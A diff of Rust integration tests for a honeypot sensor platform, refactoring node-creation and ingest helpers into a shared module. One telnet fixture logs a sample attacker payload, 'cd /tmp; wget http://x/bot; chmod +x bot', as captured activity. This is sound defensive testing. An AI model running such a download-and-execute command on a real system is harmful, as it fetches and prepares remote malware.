@@ -13,35 +13,10 @@ use rampart_store::Effects;
 use rstest::rstest;
 use serde_json::{Value, json};
 
-use crate::helpers::{Backend, TestApp, TestDatabase, TestUser, problem, remember_secret};
-
-async fn json_of(response: reqwest::Response) -> Value {
-    response.json().await.expect("JSON")
-}
-
-/// A node of `kind` in the admin's organisation: its id and key.
-async fn node(app: &TestApp, admin: &TestUser, name: &str, kind: &str) -> (String, String) {
-    let response =
-        app.call("POST", "/api/v1/nodes", Some(&admin.access), Some(&json!({"name": name, "kind": kind}))).await;
-    assert_eq!(response.status(), 201);
-    let node = json_of(response).await;
-    let key = node["key"].as_str().expect("the key, shown once").to_owned();
-    remember_secret(key.clone());
-    (node["id"].as_str().expect("id").to_owned(), key)
-}
+use crate::helpers::{Backend, TestApp, TestDatabase, create_node, decoy, ingest, json_of, problem, remember_secret};
 
 fn honeypot(ip: &str) -> Value {
     json!({"kind": "honeypot", "source_ip": ip, "service": "ssh", "activity": "login_attempt", "usernames": ["root"]})
-}
-
-fn decoy(ip: &str) -> Value {
-    json!({"kind": "decoy", "decoy_name": "aws-keys.txt", "source_ip": ip})
-}
-
-async fn ingest(app: &TestApp, key: &str, body: &Value) -> Value {
-    let response = app.sensor_call("/api/v1/ingest/events", key, body).await;
-    assert_eq!(response.status(), 200, "ingested");
-    json_of(response).await
 }
 
 #[rstest]
@@ -52,7 +27,7 @@ async fn nodes_are_managed_by_admins_and_their_keys_shown_once(
     let app = TestApp::spawn(backend).await;
     let ada = app.register("ada").await;
     let vic = app.member_of(&ada, "vic", "viewer").await;
-    let (id, key) = node(&app, &ada, "ssh-trap", "honeypot").await;
+    let (id, key) = create_node(&app, &ada, "ssh-trap", "honeypot").await;
     assert!(key.starts_with("nk_"));
 
     problem(
@@ -117,7 +92,7 @@ async fn batches_keep_the_good_events_and_name_the_bad_ones(
 ) {
     let app = TestApp::spawn(backend).await;
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
 
     let future = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
     let batch = json!([
@@ -190,8 +165,8 @@ async fn batches_keep_the_good_events_and_name_the_bad_ones(
 async fn the_old_sensor_paths_answer_as_before(#[values(Backend::Sqlite, Backend::Postgres)] backend: Backend) {
     let app = TestApp::spawn(backend).await;
     let ada = app.register("ada").await;
-    let (trap, trap_key) = node(&app, &ada, "trap", "honeypot").await;
-    let (laptop, laptop_key) = node(&app, &ada, "laptop", "agent").await;
+    let (trap, trap_key) = create_node(&app, &ada, "trap", "honeypot").await;
+    let (laptop, laptop_key) = create_node(&app, &ada, "laptop", "agent").await;
 
     let log = json!({"node_id": trap, "service": "telnet", "source_ip": "203.0.113.8", "activity": "command",
                      "payload": "cd /tmp; wget http://x/bot; chmod +x bot", "timestamp": "2026-11-24T10:00:00"});
@@ -247,8 +222,8 @@ async fn repeats_group_into_one_alert_and_each_organisation_sets_its_threshold(
     let app = TestApp::spawn(backend).await;
     let ada = app.register("ada").await;
     let bob = app.register("bob").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
-    let (_, bob_key) = node(&app, &bob, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
+    let (_, bob_key) = create_node(&app, &bob, "trap", "honeypot").await;
 
     // Three decoy touches by one source within the hour: one alert counting three.
     let mut alert_ids = Vec::new();
@@ -369,7 +344,7 @@ async fn an_external_model_scores_when_it_answers_and_the_rules_when_it_does_not
     })
     .await;
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
 
     let answer = ingest(&app, &key, &honeypot("203.0.113.50")).await;
     let event = &answer["accepted"][0];
@@ -401,7 +376,7 @@ async fn a_model_on_loopback_is_not_called_unless_outbound_allow_names_it(
     })
     .await;
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
 
     let answer = ingest(&app, &key, &honeypot("203.0.113.50")).await;
     let event = &answer["accepted"][0];
@@ -425,7 +400,7 @@ async fn concurrent_sensors_leave_events_profiles_and_alerts_in_exact_agreement(
     const EVENTS: usize = 10_000;
     let app = Arc::new(TestApp::spawn(backend).await);
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
 
     // Each client posts batches of 25 from its own few sources; every fifth event touches a decoy.
     let mut clients = Vec::new();
@@ -501,7 +476,7 @@ async fn a_full_pipeline_answers_503_with_retry_after_instead_of_queueing(
         TestApp::spawn_with(TestDatabase::create(backend).await, |config| config.watch.queue_events = 1000).await,
     );
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
     let batch: Vec<Value> = (0..1000).map(|i| honeypot(&format!("198.51.100.{}", i % 250))).collect();
     let batch = json!(batch);
 
@@ -536,8 +511,8 @@ async fn a_flooding_organisation_is_refused_its_share_while_another_is_still_tak
     );
     let ada = app.register("ada").await;
     let bob = app.register("bob").await;
-    let (_, ada_key) = node(&app, &ada, "trap", "honeypot").await;
-    let (_, bob_key) = node(&app, &bob, "trap", "honeypot").await;
+    let (_, ada_key) = create_node(&app, &ada, "trap", "honeypot").await;
+    let (_, bob_key) = create_node(&app, &bob, "trap", "honeypot").await;
     let batch: Vec<Value> = (0..1000).map(|i| honeypot(&format!("198.51.100.{}", i % 250))).collect();
     let batch = Arc::new(json!(batch));
     let post = |key: &str| {
@@ -579,8 +554,8 @@ async fn an_address_that_keeps_sending_refused_keys_is_told_to_wait(
 ) {
     let app = TestApp::spawn(backend).await;
     let ada = app.register("ada").await;
-    let (_, key) = node(&app, &ada, "trap", "honeypot").await;
-    let (other, _) = node(&app, &ada, "other", "honeypot").await;
+    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
+    let (other, _) = create_node(&app, &ada, "other", "honeypot").await;
     // The right key, naming another node: refused (403) and audited, 60 times a minute at most.
     let log = json!({"node_id": other, "service": "ssh", "source_ip": "203.0.113.8"});
     // The quota refills one a second: on a slow machine a few more than 60 may pass, never fewer.
